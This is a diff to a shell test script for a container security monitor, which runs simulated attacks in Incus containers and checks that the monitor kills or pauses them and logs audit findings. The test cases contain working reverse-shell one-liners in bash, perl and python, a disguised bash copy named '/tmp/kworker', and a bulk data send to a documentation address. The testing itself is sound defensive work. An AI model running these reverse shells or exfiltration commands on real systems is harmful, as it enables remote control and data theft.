@@ -8,6 +8,7 @@
 # Usage: test_monitor_attacks.sh PATH/TO/coi PATH/TO/test_monitor_spawn  (TAP)
 # MON_ONLY="NAME..." runs only the named cases.
 set -u
+# shellcheck source-path=SCRIPTDIR source=test_monitor_lib.sh
 . "$(dirname "$(realpath "$0")")/test_monitor_lib.sh"
 mon_start "$@"
 mon_netns || { echo "1..0 # SKIP cannot create the test network"; exit 0; }
@@ -35,6 +36,8 @@ attack ()
   sup=$(mon_supervise "$MON_TMP/$c.json") || { tap_not_ok "$name: supervisor" "spawn failed"; return; }
   local t0 ms init stopped
   init=$(mon_init_pid "$c")
+  # Without the init's pid, "killed" below would be seen at once.
+  [ "${init:-0}" -gt 0 ] 2>/dev/null || { tap_not_ok "$name: container's init pid" "got: $init"; return; }
   t0=$(mon_ms)
   incus exec "$c" -- "$@" >/dev/null 2>&1 &
   local ex=$!
@@ -54,8 +57,7 @@ attack ()
     '"killed"'
   like "$name: audit records the session end" "$(echo "$log" | jq -r 'select(.event=="stop") | .details.reason' 2>/dev/null)" killed
   # Ephemeral: the supervisor deletes the container and exits.
-  local i
-  for i in $(seq 1 50); do kill -0 "$sup" 2>/dev/null || break; sleep 0.1; done
+  for _ in $(seq 1 50); do kill -0 "$sup" 2>/dev/null || break; sleep 0.1; done
   if kill -0 "$sup" 2>/dev/null; then tap_not_ok "$name: supervisor exits" "pid $sup still alive"; else tap_ok "$name: supervisor exits"; fi
   is "$name: ephemeral container deleted" "$(incus list "^$c\$" -c n --format csv)" ""
   echo "$log" | jq -c 'select(.type=="threat") | {level,rule,title,action,detected_at}' 2>/dev/null | sed 's/^/#   /'
@@ -63,6 +65,7 @@ attack ()
 
 attack bash 2000 reverse-shell bash -c 'bash -i >& /dev/tcp/198.51.100.144/4444 0>&1'
 
+# shellcheck disable=SC2016 # the single-quoted program is perl's, its $ too
 attack perl 2000 reverse-shell perl -e 'use Socket;$i="198.51.100.144";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
 
 attack python-pty 2000 reverse-shell python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("198.51.100.144",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
@@ -107,7 +110,7 @@ open("/tmp/kworker", "wb").write(d)' && incus exec "$c" -- chmod 755 /tmp/kworke
   is "patched-bash: a copy with another build-id" "$?" 0
   incus exec "$c" -- bash -c '/tmp/kworker -i </dev/tcp/198.51.100.144/443 >&0 2>&0' >/dev/null 2>&1 &
   ex=$!
-  for i in $(seq 1 50); do [ "$(incus list "^$c\$" -c s --format csv)" = FROZEN ] && break; sleep 0.1; done
+  for _ in $(seq 1 50); do [ "$(incus list "^$c\$" -c s --format csv)" = FROZEN ] && break; sleep 0.1; done
   is "patched-bash: container paused" "$(incus list "^$c\$" -c s --format csv)" FROZEN
   like "patched-bash: audit has the high network-stdio finding" \
     "$(mon_audit "$c" | jq -c 'select(.type=="threat" and .rule=="network-stdio") | [.level,.action,.evidence.process.comm]' | head -1)" \
@@ -129,7 +132,7 @@ elif mon_container "$c"; then
   # 2 GB to a host outside: over the 100 MB-per-interval egress threshold.
   incus exec "$c" -- sh -c 'head -c 2000000000 /dev/zero | python3 -c "import socket,sys; s=socket.create_connection((\"198.51.100.144\",9000)); [s.sendall(b) for b in iter(lambda: sys.stdin.buffer.read(1<<20), b\"\")]"' >/dev/null 2>&1 &
   ex=$!
-  for i in $(seq 1 150); do [ "$(incus list "^$c\$" -c s --format csv)" = FROZEN ] && break; sleep 0.1; done
+  for _ in $(seq 1 150); do [ "$(incus list "^$c\$" -c s --format csv)" = FROZEN ] && break; sleep 0.1; done
   is "egress: container paused" "$(incus list "^$c\$" -c s --format csv)" FROZEN
   like "egress: audit has the high egress finding" \
     "$(mon_audit "$c" | jq -c 'select(.type=="threat" and .rule=="egress") | [.level,.action]' | head -1)" '["high","paused"]'
@@ -153,7 +156,7 @@ elif mon_container "$c" -c limits.processes=100; then
   ex=$!
   # The host stays responsive: the slowest of a few small host commands.
   worst=0
-  for i in $(seq 1 10); do
+  for _ in $(seq 1 10); do
     s=$(mon_ms); ls / >/dev/null; cat /proc/loadavg >/dev/null; e=$(( $(mon_ms) - s ))
     [ "$e" -gt "$worst" ] && worst=$e
     sleep 0.2
